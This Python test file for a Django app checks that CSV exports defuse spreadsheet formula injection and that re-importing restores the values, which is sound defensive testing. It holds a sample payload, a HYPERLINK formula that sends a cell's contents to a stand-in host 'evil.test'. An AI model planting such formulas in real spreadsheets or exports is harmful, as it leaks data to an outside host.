"""CSV exports neutralise formulas (issue 13 finding 8, OWASP "CSV Injection"):
a cell a spreadsheet would run gets a leading `'`, and importing the exported
sheet takes it off again, so a round trip changes nothing. Over HTTP and the
admin, with real rows."""

import pytest
from django.test import Client
from django.urls import reverse

from imports.csv.sheets import neutralise_formula, restore_formula
from production.models import Asset, Shot
from tests.conftest import make_person
from tests.imports.test_csv_import import post_sheet

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


def export(client, kind):
    response = client.get(f"/api/export/csv/{kind}.csv")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


@pytest.mark.parametrize(
    "written, exported",
    [
        ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("''-x", "'''-x"),
        ("-5", "-5"), ("+2.5", "+2.5"), ("-1,5", "-1,5"), ("'abc", "'abc"), ("Tree", "Tree"), ("", ""),
    ],
)
def test_a_cell_comes_back_as_it_was_written(written, exported):
    assert neutralise_formula(written) == exported
    assert restore_formula(exported) == written


def test_an_exported_formula_is_text_and_imports_back_unchanged(api_client, production):
    tree = production["assets"][0]
    tree.description = HYPERLINK
    tree.save()
    shot = production["shots"][0]
    shot.description = "'=already quoted"
    shot.data = {"frame_in": -5, "frame_out": 20}
    shot.save()

    assets = export(api_client, "assets")
    assert "Cosmos Landromat,Props,Tree,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"Click\"\")\"" in assets
    shots = export(api_client, "shots")
    assert "Cosmos Landromat,E01,S01,P01,''=already quoted,,-5,20" in shots.splitlines()

    for kind, text in (("assets", assets), ("shots", shots)):
        body = post_sheet(api_client, kind, text).json()
        assert (body["created"], body["updated"]) == (0, 0), body
    assert Asset.objects.get(pk=tree.pk).description == HYPERLINK
    shot = Shot.objects.get(pk=shot.pk)
    assert shot.description == "'=already quoted" and shot.data["frame_in"] == -5


def test_the_admin_export_neutralises_formulas_too(production):
    tree = production["assets"][0]
    tree.description = HYPERLINK
    tree.save()
    client = Client()
    client.force_login(make_person("admin"))
    fields = {f"assetresource_{name}": "on" for name in ("project", "category", "name", "description")}
    response = client.post(reverse("admin:production_asset_export"), {"format": "0", "resource": "0", **fields})
    assert response.status_code == 200
    assert "Cosmos Landromat,Props,Tree,\"'=HYPERLINK(" in response.content.decode()
